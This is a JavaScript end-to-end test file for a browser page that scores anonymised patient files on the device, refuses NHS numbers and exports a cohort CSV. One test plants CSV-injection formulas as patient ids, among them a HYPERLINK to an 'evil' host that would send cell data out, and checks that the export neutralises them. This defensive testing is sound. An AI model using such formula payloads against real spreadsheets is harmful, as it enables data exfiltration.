// The Risk page: score an anonymised patient file in the browser, find the cohort,
// download it; identifiers are refused; nothing leaves the device.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { mkdtemp, readFile, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { startServer, launchBrowser, openPage, visit, foreignRequests, axeViolations, screenshot } from "./harness.mjs";

const PATIENTS = new URL("../../target/e2e-data/patients-10000.csv", import.meta.url).pathname;

let server, browser, dir;
before(async () => {
  if (!existsSync(PATIENTS)) throw new Error(`${PATIENTS} missing: tools/test.sh generates it`);
  server = await startServer();
  browser = await launchBrowser();
  dir = await mkdtemp(join(tmpdir(), "atlas-risk-"));
});
after(async () => { await browser?.close(); await server?.close(); });

/** An NHS number that passes the Modulus 11 check, from a 9-digit stem. */
function nhsNumber(stem) {
  const digits = String(stem).padStart(9, "0").split("").map(Number);
  const sum = digits.reduce((s, d, i) => s + d * (10 - i), 0);
  const check = (11 - (sum % 11)) % 11;
  return check === 10 ? null : digits.join("") + check;
}

test("a 10,000-patient file is scored, the cohort shown per practice and downloaded", async () => {
  const session = await openPage(browser, server.origin);
  await visit(session, "/risk");
  assert.match(await session.page.locator("#on-device").innerText(), /stays on this device/);
  await session.page.setInputFiles("#patient-file", PATIENTS);
  await session.page.waitForSelector("#cohort-sentence", { timeout: 60_000 });
  // ⌈3% × 10,000⌉ = 300 patients in the default cohort.
  assert.match(await session.page.locator("#cohort-sentence").innerText(), /^300 of 10,000 patients are in the cohort/);
  const practices = await session.page.locator("#risk-practices tbody tr").count();
  assert.ok(practices >= 50, `${practices} practices`);
  // No count from 1 to 4 is shown as a number.
  const counts = await session.page.locator("#risk-practices tbody td:nth-child(4)").allInnerTexts();
  assert.ok(counts.every((c) => !/^[1-4]$/.test(c.trim())), counts.join(","));
  await screenshot(session.page, "risk");

  const [download] = await Promise.all([
    session.page.waitForEvent("download"),
    session.page.locator("#download-cohort").click(),
  ]);
  assert.equal(download.suggestedFilename(), "cohort.csv");
  const lines = (await readFile(await download.path(), "utf8")).trim().split(/\r?\n/);
  assert.match(lines[0], /^patient_id,practice_code,age,sex,cms/);
  assert.equal(lines.length, 301);

  // Moving the slider to 5% rebuilds the cohort without reading the file again.
  await session.page.locator("#top-percent").fill("5");
  await session.page.waitForFunction(() => /^500 of 10,000/.test(document.querySelector("#cohort-sentence")?.textContent ?? ""), null, { timeout: 20_000 });

  assert.deepEqual(session.errors, []);
  assert.deepEqual(foreignRequests(session), [], "a request left the origin");
  assert.deepEqual(await axeViolations(session.page), []);
  await session.context.close();
});

test("a file with an NHS-number column is refused and nothing of it kept", async () => {
  const rows = ["patient_id,nhs_number,practice_code,age,sex"];
  for (let i = 0, stem = 943476591; rows.length < 21; stem++) {
    const n = nhsNumber(stem);
    if (n) rows.push(`p${i++},${n},C82005,${40 + i},F`);
  }
  const file = join(dir, "with-nhs-numbers.csv");
  await writeFile(file, rows.join("\n"));
  const session = await openPage(browser, server.origin);
  await visit(session, "/risk");
  await session.page.setInputFiles("#patient-file", file);
  await session.page.waitForSelector("#risk-refused", { timeout: 30_000 });
  const text = await session.page.locator("#risk-refused").innerText();
  assert.match(text, /nhs_number/i);
  assert.equal(await session.page.locator("#cohort-sentence").count(), 0);
  await screenshot(session.page, "risk-refused");
  assert.deepEqual(session.errors, []);
  assert.deepEqual(foreignRequests(session), []);
  await session.context.close();
});

test("patient ids written as formulas come back inert in the cohort download", async () => {
  // The 10,000-patient file with four ids replaced by formulas a spreadsheet would run,
  // their patients given every condition so that they are in the cohort.
  const text = await readFile(PATIENTS, "utf8");
  const lines = text.trim().split(/\r?\n/);
  const header = lines[0].split(",");
  const conditions = header.map((h, i) => (h.startsWith("cms_") ? i : -1)).filter((i) => i >= 0);
  const formulas = ['"=HYPERLINK(""http://evil/?x=""&A1,""click"")"', "+1+1", "-2+3", "@SUM(A1)"];
  formulas.forEach((id, k) => {
    const cells = lines[k + 1].split(",");
    cells[0] = id;
    for (const i of conditions) cells[i] = "1";
    lines[k + 1] = cells.join(",");
  });
  const file = join(dir, "formula-ids.csv");
  await writeFile(file, lines.join("\n") + "\n");
  const session = await openPage(browser, server.origin);
  await visit(session, "/risk");
  await session.page.setInputFiles("#patient-file", file);
  await session.page.waitForSelector("#cohort-sentence", { timeout: 60_000 });
  const [download] = await Promise.all([
    session.page.waitForEvent("download"),
    session.page.locator("#download-cohort").click(),
  ]);
  const cohort = await readFile(await download.path(), "utf8");
  const ids = cohort.trim().split(/\r?\n/).slice(1).map((l) => l.match(/^("(?:[^"]|"")*"|[^,]*)/)[1]);
  // (A leading tab or carriage return is trimmed when the id is read; the writer's own
  // tests cover them.)
  for (const bare of ["=HYPERLINK", "+1+1", "-2+3", "@SUM(A1)"]) {
    const id = ids.find((i) => i.replace(/^"|"$/g, "").replaceAll('""', '"').includes(bare));
    assert.ok(id, `${JSON.stringify(bare)} is not in the cohort`);
    // Neutralised as OWASP recommends: a leading apostrophe, so the cell is text.
    assert.match(id.replace(/^"/, ""), /^'/, id);
  }
  assert.deepEqual(session.errors, []);
  await session.context.close();
});

test("an NHS number written with hyphens after row 100, in the id column, refuses the file: no cohort, nothing to download", async () => {
  const rows = ["patient_id,practice_code,age,sex,cms_dementia"];
  for (let i = 0; i < 150; i++) rows.push(`${i === 120 ? "943-476-5919" : `P${i}`},C82005,${40 + (i % 50)},F,${i % 2}`);
  const file = join(dir, "hyphenated-nhs-number.csv");
  await writeFile(file, rows.join("\n"));
  const session = await openPage(browser, server.origin);
  await visit(session, "/risk");
  await session.page.setInputFiles("#patient-file", file);
  await session.page.waitForSelector("#risk-refused", { timeout: 30_000 });
  const text = await session.page.locator("#risk-refused").innerText();
  assert.match(text, /column "patient_id" looks like NHS numbers/);
  assert.doesNotMatch(text, /943-476-5919/);
  assert.equal(await session.page.locator("#cohort-sentence").count(), 0);
  assert.equal(await session.page.getByRole("button", { name: /Download/ }).count(), 0);
  assert.deepEqual(session.errors, []);
  await session.context.close();
});

test("a large patient file is read by every core at once, with what reading it whole gives", async () => {
  // 270,000 patients (about 37 MB, CRLF): large enough to be cut into parts. The rows of
  // the 10,000-patient file over again with new ids; a bad age on the first row, a bad
  // sex on the last but one, and the last repeating the id of the sixth (line 7), across
  // the cut.
  const ROWS = 270_000;
  const [header, ...base] = (await readFile(PATIENTS, "utf8")).trim().split(/\r?\n/);
  const lines = [header];
  for (let i = 0; i < ROWS; i++) {
    const cells = base[i % base.length].split(",");
    cells[0] = i === ROWS - 1 ? "R5" : `R${i}`;
    if (i === 0) cells[2] = "old";
    if (i === ROWS - 2) cells[3] = "Q";
    lines.push(cells.join(","));
  }
  const file = join(dir, "patients-large.csv");
  await writeFile(file, lines.join("\r\n") + "\r\n");

  const read = async (path) => {
    const session = await openPage(browser, server.origin);
    await visit(session, path);
    await session.page.setInputFiles("#patient-file", file);
    await session.page.waitForSelector("#cohort-sentence", { timeout: 120_000 });
    const page = session.page;
    const result = {
      parts: Number(await page.locator("#risk-timings").getAttribute("data-parts")),
      timings: await page.locator("#risk-timings").innerText(),
      sentence: await page.locator("#cohort-sentence").innerText(),
      practices: await page.locator("#risk-practices tbody").innerText(),
      rejected: await page.locator("#risk-rejected").innerText(),
      report: await page.locator(".atlas-file-report dl").innerText(),
      problems: (await page.locator(".atlas-file-report tbody tr").allInnerTexts()).map((r) => r.split("\t").map((c) => c.trim())),
    };
    assert.deepEqual(session.errors, []);
    assert.deepEqual(foreignRequests(session), [], "a request left the origin");
    return { session, result };
  };

  const cores = await (async () => {
    const s = await openPage(browser, server.origin);
    const n = await s.page.evaluate(() => Math.min(Math.max(navigator.hardwareConcurrency || 1, 1), 4));
    await s.context.close();
    return n;
  })();
  const { session, result: inParts } = await read("/risk");
  assert.equal(inParts.parts, cores);
  if (cores > 1) assert.match(inParts.timings, new RegExp(`\\(${cores} parts at once\\)`));
  const accepted = ROWS - 3;
  assert.match(inParts.sentence, new RegExp(`^${Math.ceil(accepted * 0.03).toLocaleString("en-GB")} of ${accepted.toLocaleString("en-GB")} patients are in the cohort`));
  assert.match(inParts.rejected, /^3 rows of the file were rejected/);
  assert.match(inParts.report, /Rows read\s+270,000/);
  assert.match(inParts.report, /Rejected\s+3\b/);
  // Columns on the page: severity, line, column, value, reason. Lines count on across
  // the parts; the repeated id is found across them.
  assert.deepEqual(inParts.problems.map((p) => [p[1], p[2], p[3]]), [
    ["2", "age", "old"],
    [String(ROWS), "sex", "Q"],
    [String(ROWS + 1), "patient_id", "R5"],
  ]);
  assert.match(inParts.problems[2][4], /already on line 7/);
  await screenshot(session.page, "risk-large-file");
  assert.deepEqual(await axeViolations(session.page), []);
  await session.context.close();

  // The same file read whole by one worker gives the same page.
  const { session: whole, result: readWhole } = await read("/risk?workers=1");
  assert.equal(readWhole.parts, 1);
  assert.deepEqual({ ...readWhole, parts: 0, timings: "" }, { ...inParts, parts: 0, timings: "" });
  await whole.context.close();
});
